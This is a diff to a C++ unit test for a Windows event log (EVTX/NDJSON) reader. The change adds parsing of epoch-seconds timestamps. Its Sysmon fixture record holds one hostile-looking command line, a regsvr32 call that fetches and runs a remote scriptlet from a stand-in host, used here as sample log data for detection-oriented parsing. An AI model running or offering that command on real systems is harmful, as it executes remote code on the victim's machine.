@@ -938,8 +938,9 @@ TEST(NdjsonReader, ValueEndFollowsBracketsOutsideStrings) {
 
 TEST(NdjsonReader, EventTreesBecomeTheDocumentsTheirRecordsGive) {
   // evtx_dump's lines (also kept in Elasticsearch, under _source) and the Go
-  // decoders' shape (System at the top level): winlog.* and the ECS mapping,
-  // as an EVTX record of the event gives; numbers as their text.
+  // decoders' shape (System at the top level; Velociraptor's time in epoch
+  // seconds): winlog.* and the ECS mapping, as an EVTX record of the event
+  // gives; numbers as their text.
   const std::string dump =
       R"({"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{)"
       R"("Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},)"
@@ -949,7 +950,7 @@ TEST(NdjsonReader, EventTreesBecomeTheDocumentsTheirRecordsGive) {
       R"("EventData":{"ProcessId":5532,"Image":"C:\\Windows\\System32\\regsvr32.exe","CommandLine":"regsvr32 /s /i:http://x/a.sct scrobj.dll","Hashes":null}}})";
   const std::string go =
       R"({"System":{"Provider":{"Name":"Microsoft-Windows-Security-Auditing"},"EventID":{"Qualifiers":"","Value":"4688"},)"
-      R"("TimeCreated":{"SystemTime":"2019-03-19T23:35:00Z"},"Channel":"Security","Computer":"dc1"},)"
+      R"("TimeCreated":{"SystemTime":1553038500.25},"Channel":"Security","Computer":"dc1"},)"
       R"("EventData":{"NewProcessName":"C:\\w\\b.exe","Data":["x"]}})";
   FieldRegistry fields;
   const std::vector<std::string> names{"process.executable", "process.pid", "event.code", "host.name", "@timestamp",
@@ -976,7 +977,7 @@ TEST(NdjsonReader, EventTreesBecomeTheDocumentsTheirRecordsGive) {
   };
   const std::vector<std::string> want{
       R"("C:\\Windows\\System32\\regsvr32.exe" 5532 "1" "ws1.corp" "2019-03-19T23:34:07.497245Z" 42 null "" )",
-      R"("C:\\w\\b.exe" null "4688" "dc1" "2019-03-19T23:35:00Z" null "x" null )"};
+      R"("C:\\w\\b.exe" null "4688" "dc1" "2019-03-19T23:35:00.250Z" null "x" null )"};
   TempFile lines(dump + "\n" + go + "\n");
   TempFile hits(R"({"_index":"evtx","_id":"1","_source":)" + dump + "}\n" + R"({"_index":"evtx","_source":)" + go + "}\n");
   EXPECT_EQ(rendered(lines.path), want);
